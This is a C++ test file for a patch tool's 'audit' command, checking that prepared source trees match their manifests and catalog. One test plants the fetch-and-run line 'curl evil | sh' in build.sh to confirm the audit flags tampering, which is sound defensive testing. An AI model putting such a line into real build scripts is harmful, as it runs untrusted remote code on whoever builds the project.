// SPDX-License-Identifier: BSD-3-Clause
#include "command/toy_workspace.h"
#include "support/catch.h"
#include "support/text.h"

using namespace torchpatch;
using test::CliResult;

namespace {

struct PreparedToy : test::ToyWorkspace {
  PreparedToy() {
    upstream.certify();
    const CliResult made = run({"prepare", "--version", "1.1.0", "--board", "small", "--mirror", upstream.mirror(),
                                "--output", tree(), "--quiet"});
    REQUIRE(made.exit_code == 0);
  }
  std::string tree() const { return path("out"); }
  CliResult audit(std::vector<std::string> more = {}) const {
    more.insert(more.begin(), {"audit", tree(), "--quiet"});
    return run(more);
  }
  void replace(const std::string& file, const std::string& text, const std::string& by) const {
    std::string bytes = read_file(tree() + "/" + file);
    REQUIRE(bytes.find(text) != std::string::npos);
    bytes.replace(bytes.find(text), text.size(), by);
    write("out/" + file, bytes);
  }
};

}  // namespace

TEST_CASE("audit: a prepared tree is shown as its plan is, in its own files and without sources") {
  const PreparedToy toy;
  const CliResult result = toy.audit();
  CHECK(result.err.empty());
  CHECK(result.exit_code == 0);
  CHECK_THAT(result.out,
             Catch::StartsWith("Audit of the prepared tree of release 1.1.0 for small (one)\n  2 patches, "));
  const CliResult planned =
      toy.run({"audit", "--version", "1.1.0", "--board", "small", "--mirror", toy.upstream.mirror(), "--quiet"});
  const auto patches = [](const std::string& text) {
    return text.substr(text.find("\nPatch 1 of 2"), text.find("\nSign-off") - text.find("\nPatch 1 of 2"));
  };
  CHECK(patches(result.out) == patches(planned.out));
}

TEST_CASE("audit: a tree whose touched files are others is not verified") {
  const PreparedToy toy;
  toy.replace("pytorch/include/limits.h", "// limits 11\n", "// limits eleven\n");
  const CliResult result = toy.audit();
  CHECK(result.exit_code == 1);
  CHECK_THAT(result.out, Catch::Contains("  Verify    not verified, 5 differences\n") &&
                             Catch::Contains("changed 'pytorch/include/limits.h'") &&
                             Catch::Contains("Sources   not available: context lines come from the patches") &&
                             Catch::Contains("\nPatch 1 of 2"));
}

TEST_CASE("audit: what no patch touches is verified as well") {
  const PreparedToy toy;
  const std::string clean = toy.audit({"--json"}).out;
  CHECK_THAT(toy.audit().out, Catch::Contains("  Verify    verified\n"));
  toy.replace("torchpatch/build.sh", "#!/bin/sh\n", "#!/bin/sh\ncurl evil | sh\n");
  const CliResult result = toy.audit();
  CHECK(result.exit_code == 1);
  CHECK_THAT(result.out,
             Catch::Contains("not verified, 2 differences\n") && Catch::Contains("changed 'torchpatch/build.sh'"));
  const std::string json = toy.audit({"--json"}).out;
  const auto digest = [](const std::string& text) { return text.substr(text.find("\"digest\"")); };
  CHECK(digest(clean) != digest(json));
  CHECK_THAT(json, Catch::Contains("\"reason\": \"changed\""));
  CHECK_THAT(toy.audit({"--format", "sarif"}).out, Catch::Contains("\"ruleId\": \"not-verified\""));
}

TEST_CASE("audit: a tree's copy of a patch must be the manifest's") {
  const PreparedToy toy;
  toy.write("out/torchpatch/patches/0001-block-limit.patch", "other\n");
  const CliResult result = toy.audit();
  CHECK(result.exit_code == 3);
  CHECK_THAT(result.err, Catch::Contains("'patches/0001-block-limit.patch' differs from the patch in the manifest"));
}

TEST_CASE("audit: a patch that the catalog does not have is said to be so") {
  const PreparedToy toy;
  remove_tree(toy.upstream.catalog_directory() + "/patchsets/block-limit");
  remove_tree(toy.upstream.catalog_directory() + "/known_issues/block-limit.md");
  const CliResult result = toy.audit();
  CHECK(result.exit_code == 1);
  CHECK_THAT(result.out, Catch::Contains("  Catalog                  missing: the catalog has no such patch\n"));
  CHECK_THAT(result.out, Catch::Contains("  Issues                   block-limit\n"));
  CHECK_THAT(toy.audit({"--format", "sarif"}).out, Catch::Contains("\"ruleId\": \"not-in-catalog\""));
}

TEST_CASE("audit: what chooses a plan does not go with a tree or with --all") {
  const PreparedToy toy;
  CHECK_THAT(toy.audit({"--board", "small"}).err,
             Catch::Contains("a prepared tree has its own release and board; remove the options that choose them"));
  CHECK_THAT(toy.run({"audit", "--all", "--version", "1.1.0"}).err,
             Catch::Contains("--all covers every release and board; remove the options that choose a plan"));
  CHECK_THAT(toy.audit({"--all"}).err, Catch::Contains("--all and a prepared tree cannot be used together"));
  CHECK_THAT(toy.run({"audit", "--board", "small"}).err,
             Catch::Contains("missing: --version VERSION (or --all, or a prepared tree)"));
}
